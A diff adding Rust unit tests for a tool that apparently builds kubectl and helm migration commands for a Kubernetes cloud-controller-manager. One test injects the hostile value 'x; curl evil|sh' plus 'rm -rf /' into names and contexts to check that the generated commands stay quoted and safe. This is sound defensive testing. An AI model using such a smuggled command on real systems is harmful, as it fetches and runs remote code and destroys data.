@@ -1,0 +1,144 @@
+use serde_json::json;
+
+use super::*;
+use crate::{facts::version::Minor, provider::embedded};
+
+const CLUSTER: Cluster = Cluster { minor: Minor(35), distribution: Distribution::Kubeadm, control_plane_nodes: 3 };
+
+fn existing(kind: &str, name: &str, arguments: &Value, annotations: &Value) -> Existing {
+    let pod = json!({"containers": [{"image": "cloud-controller-manager", "args": arguments}]});
+    let metadata = json!({"name": name, "namespace": "kube-system", "annotations": annotations});
+    let live = json!({"kind": kind, "metadata": metadata, "spec": {"template": {"spec": pod}}});
+    let catalog = embedded::catalog().unwrap();
+    let descriptors: Vec<_> = catalog.upstream().map(|one| &one.descriptor).collect();
+    Existing::of(&live, &descriptors).unwrap()
+}
+
+fn situation<'a>(draft: &'a Draft, access: &'a Access) -> Situation<'a> {
+    Situation {
+        draft,
+        cluster: CLUSTER,
+        folder: Path::new("."),
+        has_operator: false,
+        operator_namespace: NAME,
+        has_namespace: true,
+        access,
+        flags: "",
+    }
+}
+
+fn commands(steps: &[Step]) -> Vec<&str> {
+    steps.iter().flat_map(|step| &step.commands).map(String::as_str).collect()
+}
+
+fn helm(release: &str, namespace: &str) -> Value {
+    json!({"meta.helm.sh/release-name": release, "meta.helm.sh/release-namespace": namespace})
+}
+
+#[test]
+fn what_others_have_written_is_no_part_of_the_shell() {
+    let evil = "x; curl evil|sh\n$ rm -rf /";
+    let (draft, access) = (Draft::new("main", "aws", evil), Access { context: Some(evil.into()), ..Access::default() });
+    let mut of_helm = existing("DaemonSet", "a", &json!([]), &json!({}));
+    of_helm.helm = Some((evil.into(), evil.into()));
+    let told = ["leader-elect-resource-name", "leader-elect-resource-namespace"];
+    of_helm.flags.extend(told.map(|flag| (flag.to_owned(), Some(evil.to_owned()))));
+    assert!(of_helm.check().unwrap_err().contains("can be the name of no object"));
+    let plain = existing("Deployment", evil, &json!(["--leader-elect=false"]), &json!({}));
+    let rights = Rights {
+        objects: vec![json!({"kind": "Role", "metadata": {"name": evil, "namespace": evil}})],
+        ..Rights::default()
+    };
+    let mut situation = situation(&draft, &access);
+    situation.has_namespace = false;
+    for all in [[of_helm.clone()], [plain.clone()]] {
+        let Steps { next, back, clean_up } = situation.migration(&all, &rights);
+        for command in commands(&next).into_iter().chain(commands(&back)).chain(commands(&clean_up)) {
+            assert!(!command.contains('\n'), "{command}");
+            // Outside of quotes there is none of it.
+            let bare: String = command.split('\'').step_by(2).collect();
+            assert!(!bare.contains("curl") && !bare.contains(['|', ';']), "{command}");
+        }
+    }
+    let nameless = existing("DaemonSet", "a", &json!([]), &helm(evil, "ns"));
+    assert_eq!(nameless.helm, None, "no release can be called so");
+    assert!(existing("DaemonSet", "a", &json!([]), &helm("ccm", "ns")).check().is_ok());
+}
+
+#[test]
+fn every_command_reaches_the_cluster_that_was_looked_at() {
+    let access = Access { context: Some("prod 1".into()), kubeconfig: Some("k".into()), ..Access::default() };
+    let mut draft = Draft::new("main", "aws", "kube-system");
+    draft.set("credentials.secretRef.name", "aws");
+    draft.skips = Some("other-ccm");
+    draft.secret("aws").put("a", b"b");
+    let rights = Rights { objects: vec![json!({"kind": "Role", "metadata": {"name": "r"}})], ..Rights::default() };
+    let of_helm = existing("DaemonSet", "a", &json!([]), &helm("ccm", "ns"));
+    let plain = existing("Deployment", "b", &json!(["--leader-elect=false"]), &json!({}));
+    let mut seen = 0;
+    for has_operator in [true, false] {
+        for all in [[of_helm.clone()], [plain.clone()]] {
+            let situation = Situation { has_operator, ..situation(&draft, &access) };
+            let Steps { next, back, clean_up } = situation.migration(&all, &rights);
+            let first = situation.first(&all).next;
+            for command in [&next, &back, &clean_up, &first].map(|steps| commands(steps)).concat() {
+                let flag = if command.starts_with("helm ") { "--kube-context" } else { "--context" };
+                let has_it = command.contains(&format!("--kubeconfig=k {flag}='prod 1'"));
+                assert_eq!(has_it, !command.starts_with("ccm-operator render --phase install"), "{command}");
+                seen += 1;
+            }
+        }
+    }
+    assert!(seen > 40, "{seen}");
+}
+
+#[test]
+fn a_release_is_uninstalled_once_and_only_if_nothing_else_is_seen_in_it() {
+    let (draft, access) = (Draft::new("main", "azure", "kube-system"), Access::default());
+    let mut both = ["a", "b"].map(|name| existing("DaemonSet", name, &json!([]), &helm("ccm", "ns")));
+    let keys = both.clone().map(|one| one.key()).to_vec();
+    for one in &mut both {
+        one.of_release.clone_from(&keys);
+    }
+    let situation = situation(&draft, &access);
+    let Steps { next, back, .. } = situation.migration(&both, &Rights::default());
+    let of_helm = |steps| commands(steps).into_iter().filter(|one| one.starts_with("helm ")).collect::<Vec<_>>();
+    let [manifest, history] =
+        ["helm get manifest ccm --namespace ns", "helm history ccm --namespace ns"].map(str::to_owned);
+    assert_eq!(of_helm(&next), [&manifest, &history, "helm uninstall ccm --namespace ns --keep-history --wait"]);
+    assert_eq!(of_helm(&back), [&history, "helm rollback ccm REVISION --namespace ns"]);
+
+    both[0].of_release.push("Deployment shop/web".into());
+    let next = situation.migration(&both, &Rights::default()).next;
+    assert_eq!(of_helm(&next), [manifest, history]);
+    assert!(next.iter().any(|step| step.title.starts_with("TO DO: ") && step.title.contains("Deployment shop/web")));
+}
+
+#[test]
+fn without_a_lease_the_operator_runs_before_the_old_one_is_stopped() {
+    let mut draft = Draft::new("main", "hcloud", "clouds");
+    draft.set("placement.apiServer", json!({"host": "fd00::10", "port": 6443}));
+    let (access, old) = (Access::default(), existing("Deployment", "b", &json!(["--leader-elect=F"]), &json!({})));
+    let mut situation = situation(&draft, &access);
+    situation.has_namespace = false;
+    let next = situation.migration(std::slice::from_ref(&old), &Rights::default()).next;
+    let all = commands(&next);
+    let at =
+        |part: &str| all.iter().position(|command| command.contains(part)).unwrap_or_else(|| panic!("{part}: {all:?}"));
+    let order = [
+        "kubectl create namespace clouds",
+        "kubectl label namespace clouds pod-security.kubernetes.io/enforce=privileged",
+        "--namespaces kube-system,clouds --api-server '[fd00::10]:6443'",
+        "get lease cluster-cloud-controller-manager-leader",
+        "delete deployment b",
+        "apply --server-side -f ccm.yaml",
+    ];
+    assert!(order.map(at).is_sorted(), "{all:?}");
+
+    situation.has_namespace = true;
+    situation.flags = " --provider hcloud";
+    situation.folder = Path::new("-");
+    let first = situation.first(&[old]).next;
+    assert_eq!(commands(&first)[0], "ccm-operator init --from-existing --provider hcloud --dest-dir ./-/migration");
+    assert!(!commands(&first).concat().contains("create namespace"));
+}
